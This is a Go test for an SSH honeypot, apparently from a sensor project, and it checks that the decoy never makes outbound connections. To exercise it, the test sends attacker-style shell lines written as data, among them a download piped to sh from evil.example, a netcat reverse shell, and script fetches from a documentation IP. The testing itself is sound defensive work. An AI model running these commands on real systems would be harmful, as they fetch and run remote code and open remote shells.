package sshpot

import (
	"testing"
	"time"

	"golang.org/x/crypto/ssh"

	"github.com/vallum/vallum/internal/sensor"
	"github.com/vallum/vallum/internal/sensor/sensortest"
)

// TestNoEgress runs the honeypot in a fresh network namespace whose only
// route sends everything to the loopback device, with an nftables counter
// on every packet leaving for an address that is not loopback. A client
// asks for everything that would make a careless decoy connect out
// (downloads, ping, ssh and nc from the shell, local and remote port
// forwards, a SOCKS-style direct-tcpip); the counter must stay at zero.
// Then the test connects out itself to show the counter would have seen it.
func TestNoEgress(t *testing.T) {
	if !sensortest.Isolate(t) {
		return
	}
	p := startPot(t, anyPolicy(), "")
	client := dialGo(t, p.addr, "root", "x")
	for _, line := range []string{
		"wget http://198.51.100.7/x.sh; curl -O http://198.51.100.7/y; curl http://evil.example/z | sh",
		"tftp -g -r m 198.51.100.7; ftpget 198.51.100.7 a b; ping -c 1 198.51.100.7",
		"ssh root@198.51.100.7; nc 198.51.100.7 4444 -e /bin/sh; scp x root@198.51.100.7:",
		"echo 'wget http://198.51.100.7/s' | sh; apt-get install nmap",
	} {
		sess, err := client.NewSession()
		if err != nil {
			t.Fatal(err)
		}
		sess.CombinedOutput(line)
	}
	if c, err := client.Dial("tcp", "198.51.100.7:80"); err == nil {
		c.Close()
		t.Error("direct-tcpip accepted")
	}
	if _, err := client.Listen("tcp", "0.0.0.0:8080"); err == nil {
		t.Error("tcpip-forward accepted")
	}
	// A session with agent and X11 forwarding asked for.
	sess, _ := client.NewSession()
	sess.SendRequest("auth-agent-req@openssh.com", true, nil)
	sess.SendRequest("x11-req", true, ssh.Marshal(struct {
		Single        bool
		Proto, Cookie string
		Screen        uint32
	}{false, "MIT-MAGIC-COOKIE-1", "00", 0}))
	sess.Close()
	client.Close()
	p.events.Wait(t, "every download and forward", func() bool {
		return len(p.events.All(sensor.KindRequest)) >= 6 && len(p.events.All(sensor.KindForward)) >= 4
	})
	time.Sleep(300 * time.Millisecond)
	sensortest.CheckNoEgress(t)
}
